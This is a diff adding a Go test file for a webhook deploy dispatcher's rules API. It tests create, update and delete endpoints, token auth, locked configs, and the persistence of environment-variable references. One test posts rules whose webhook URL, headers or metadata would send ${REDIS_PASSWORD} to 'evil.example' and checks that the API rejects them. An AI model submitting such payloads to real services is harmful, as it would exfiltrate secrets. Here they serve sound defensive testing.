@@ -0,0 +1,196 @@
+package main
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestLoadConfig_RulesAPIPersist(t *testing.T) {
+	config := loadConfig()
+
+	if config.RulesAPIPersist {
+		t.Error("Expected RulesAPIPersist to be false by default")
+	}
+
+	os.Setenv("RULES_API_PERSIST", "true")
+	defer os.Unsetenv("RULES_API_PERSIST")
+
+	config = loadConfig()
+	if !config.RulesAPIPersist {
+		t.Error("Expected RulesAPIPersist to be true")
+	}
+	if err := validateRulesAPIConfig(config); err != nil {
+		t.Errorf("Expected valid config, got %v", err)
+	}
+	config.ConfigPublicKeyFile = "config.pub"
+	if err := validateRulesAPIConfig(config); err == nil {
+		t.Error("Expected error for RULES_API_PERSIST with a signed config file, got nil")
+	}
+}
+
+// requestRules sends a request to the rules API with the admin token
+func requestRules(t *testing.T, handler http.Handler, method, path, body string) *httptest.ResponseRecorder {
+	t.Helper()
+	req := httptest.NewRequest(method, path, strings.NewReader(body))
+	if body != "" {
+		req.Header.Set("Content-Type", "application/json")
+	}
+	req.Header.Set("Authorization", "Bearer admin-token")
+	rec := httptest.NewRecorder()
+	handler.ServeHTTP(rec, req)
+	return rec
+}
+
+func TestRulesAPI(t *testing.T) {
+	t.Setenv("DEPLOY_WEBHOOK_SECRET", "s3cret")
+	path := filepath.Join(t.TempDir(), "config.json")
+	os.WriteFile(path, []byte(`[{"repo": "owner/repo", "branch": "refs/heads/main", "commands": ["make build"], "webhook_secret": "${DEPLOY_WEBHOOK_SECRET}"}]`), 0o600)
+	rules, err := loadFilterRules(path)
+	if err != nil {
+		t.Fatalf("Failed to load rules: %v", err)
+	}
+
+	config := Config{AdminAuthToken: "admin-token", ConfigFilePath: path, RulesAPIPersist: true}
+	d := newDispatcher(nil, config, rules)
+	handler := newHTTPHandler(config, d)
+
+	// The rules are listed as configured
+	rec := requestRules(t, handler, http.MethodGet, "/api/rules", "")
+	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), `"webhook_secret":"${DEPLOY_WEBHOOK_SECRET}"`) {
+		t.Fatalf("Expected the configured rules, got %d %s", rec.Code, rec.Body)
+	}
+	if rec := requestRules(t, handler, http.MethodGet, "/api/rules/owner/repo@refs/heads/main", ""); rec.Code != http.StatusOK {
+		t.Errorf("Expected the rule, got %d %s", rec.Code, rec.Body)
+	}
+	if rec := requestRules(t, handler, http.MethodGet, "/api/rules/missing", ""); rec.Code != http.StatusNotFound {
+		t.Errorf("Expected 404 for a missing rule, got %d", rec.Code)
+	}
+
+	rec = requestRules(t, handler, http.MethodPost, "/api/rules", `{"id": "docs", "repo": "owner/docs", "branch": "refs/heads/main", "commands": ["make docs"]}`)
+	if rec.Code != http.StatusCreated {
+		t.Fatalf("Expected the rule to be created, got %d %s", rec.Code, rec.Body)
+	}
+	if rec := requestRules(t, handler, http.MethodPost, "/api/rules", `{"id": "docs", "repo": "owner/docs", "branch": "refs/heads/main"}`); rec.Code != http.StatusConflict {
+		t.Errorf("Expected 409 for an existing ID, got %d", rec.Code)
+	}
+	if rec := requestRules(t, handler, http.MethodPost, "/api/rules", `{"repo": "owner/other", "priority": 5000}`); rec.Code != http.StatusBadRequest {
+		t.Errorf("Expected 400 for an invalid rule, got %d", rec.Code)
+	}
+	if rec := requestRules(t, handler, http.MethodPost, "/api/rules", `{"repo": "owner/other", "comands": ["make"]}`); rec.Code != http.StatusBadRequest {
+		t.Errorf("Expected 400 for an unknown field, got %d", rec.Code)
+	}
+
+	rec = requestRules(t, handler, http.MethodPut, "/api/rules/owner/repo@refs/heads/main", `{"repo": "owner/repo", "branch": "refs/heads/main", "commands": ["make test"], "webhook_secret": "${DEPLOY_WEBHOOK_SECRET}"}`)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("Expected the rule to be updated, got %d %s", rec.Code, rec.Body)
+	}
+	if rec := requestRules(t, handler, http.MethodPut, "/api/rules/docs", `{"id": "other", "repo": "owner/docs"}`); rec.Code != http.StatusBadRequest {
+		t.Errorf("Expected 400 for a mismatching ID, got %d", rec.Code)
+	}
+
+	current := d.rules.Load()
+	if len(current.rules) != 2 || current.rules[0].Commands[0].Run != "make test" || current.rules[1].ID != "docs" {
+		t.Fatalf("Expected the updated rule and the new rule, got %+v", current.rules)
+	}
+	if current.rules[0].WebhookSecret != "s3cret" || !current.verifySignatures {
+		t.Errorf("Expected the references of the dispatched rules to be resolved, got '%s'", current.rules[0].WebhookSecret)
+	}
+
+	if rec := requestRules(t, handler, http.MethodDelete, "/api/rules/docs", ""); rec.Code != http.StatusNoContent {
+		t.Fatalf("Expected the rule to be deleted, got %d %s", rec.Code, rec.Body)
+	}
+	if rec := requestRules(t, handler, http.MethodDelete, "/api/rules/docs", ""); rec.Code != http.StatusNotFound {
+		t.Errorf("Expected 404 for a deleted rule, got %d", rec.Code)
+	}
+
+	// The file is persisted as configured and loads again
+	data, _ := os.ReadFile(path)
+	if !strings.Contains(string(data), "${DEPLOY_WEBHOOK_SECRET}") || strings.Contains(string(data), "s3cret") {
+		t.Errorf("Expected the references to be persisted unresolved, got %s", data)
+	}
+	persisted, err := loadFilterRules(path)
+	if err != nil || len(persisted) != 1 || persisted[0].Commands[0].Run != "make test" {
+		t.Errorf("Expected the persisted rules to load, got %+v (%v)", persisted, err)
+	}
+}
+
+func TestRulesAPI_EnvReferences(t *testing.T) {
+	t.Setenv("DEPLOY_WEBHOOK_SECRET", "s3cret")
+	rules, err := parseFilterRules([]byte(`[{"id": "main", "repo": "owner/repo", "webhook_secret": "${DEPLOY_WEBHOOK_SECRET}"}]`))
+	if err != nil {
+		t.Fatalf("Failed to parse rules: %v", err)
+	}
+	config := Config{AdminAuthToken: "admin-token"}
+	handler := newHTTPHandler(config, newDispatcher(nil, config, rules))
+
+	for _, body := range []string{
+		`{"repo": "owner/evil", "webhook_url": "https://evil.example/?k=${REDIS_PASSWORD}"}`,
+		`{"repo": "owner/evil", "webhook_url": "https://evil.example/", "webhook_headers": {"X-Key": "${REDIS_PASSWORD}"}}`,
+		`{"repo": "owner/evil", "metadata": {"key": "${REDIS_PASSWORD}"}}`,
+	} {
+		if rec := requestRules(t, handler, http.MethodPost, "/api/rules", body); rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "environment variable") {
+			t.Errorf("Expected 400 for a reference in %s, got %d %s", body, rec.Code, rec.Body)
+		}
+	}
+
+	// A rule keeps the references of the config file, but cannot move them
+	if rec := requestRules(t, handler, http.MethodPut, "/api/rules/main", `{"repo": "owner/repo", "webhook_secret": "${DEPLOY_WEBHOOK_SECRET}", "metadata": {"team": "ci"}}`); rec.Code != http.StatusOK {
+		t.Errorf("Expected a kept reference to be accepted, got %d %s", rec.Code, rec.Body)
+	}
+	if rec := requestRules(t, handler, http.MethodPut, "/api/rules/main", `{"repo": "owner/repo", "metadata": {"secret": "${DEPLOY_WEBHOOK_SECRET}"}}`); rec.Code != http.StatusBadRequest {
+		t.Errorf("Expected 400 for a moved reference, got %d %s", rec.Code, rec.Body)
+	}
+	if rec := requestRules(t, handler, http.MethodPut, "/api/rules/main", `{"repo": "owner/repo", "webhook_secret": "${REDIS_PASSWORD}"}`); rec.Code != http.StatusBadRequest {
+		t.Errorf("Expected 400 for a changed reference, got %d %s", rec.Code, rec.Body)
+	}
+}
+
+func TestRulesAPI_DuplicateIDs(t *testing.T) {
+	rules := []FilterRule{
+		{ID: "owner/repo@refs/heads/main", Repo: "owner/repo", Branch: "refs/heads/main", Events: []string{"push"}},
+		{ID: "owner/repo@refs/heads/main", Repo: "owner/repo", Branch: "refs/heads/main", Events: []string{"release"}},
+	}
+	config := Config{AdminAuthToken: "admin-token"}
+	handler := newHTTPHandler(config, newDispatcher(nil, config, rules))
+
+	if rec := requestRules(t, handler, http.MethodDelete, "/api/rules/owner/repo@refs/heads/main", ""); rec.Code != http.StatusConflict {
+		t.Errorf("Expected 409 for an ambiguous ID, got %d", rec.Code)
+	}
+}
+
+func TestRulesAPI_Refused(t *testing.T) {
+	rules := []FilterRule{{ID: "main", Repo: "owner/repo", Branch: "refs/heads/main", Commands: []Command{{Run: "make build"}}}}
+
+	for _, config := range []Config{
+		{AdminAuthToken: "admin-token", Locked: true, ConfigPublicKeyFile: "config.pub"},
+		{AdminAuthToken: "admin-token", ConfigPublicKeyFile: "config.pub"},
+	} {
+		d := newDispatcher(nil, config, rules)
+		handler := newHTTPHandler(config, d)
+
+		if rec := requestRules(t, handler, http.MethodDelete, "/api/rules/main", ""); rec.Code != http.StatusForbidden {
+			t.Errorf("Expected the change to be refused (locked: %t), got %d", config.Locked, rec.Code)
+		}
+		if len(d.rules.Load().rules) != 1 {
+			t.Error("Expected the rules to be unchanged")
+		}
+		rec := requestRules(t, handler, http.MethodGet, "/api/rules", "")
+		var listed []FilterRule
+		if err := json.NewDecoder(rec.Body).Decode(&listed); err != nil || len(listed) != 1 {
+			t.Errorf("Expected the rules to be listed, got %d (%v)", rec.Code, err)
+		}
+	}
+
+	req := httptest.NewRequest(http.MethodGet, "/api/rules", nil)
+	rec := httptest.NewRecorder()
+	config := Config{AdminAuthToken: "admin-token"}
+	newHTTPHandler(config, newDispatcher(nil, config, rules)).ServeHTTP(rec, req)
+	if rec.Code != http.StatusUnauthorized {
+		t.Errorf("Expected 401 without a token, got %d", rec.Code)
+	}
+}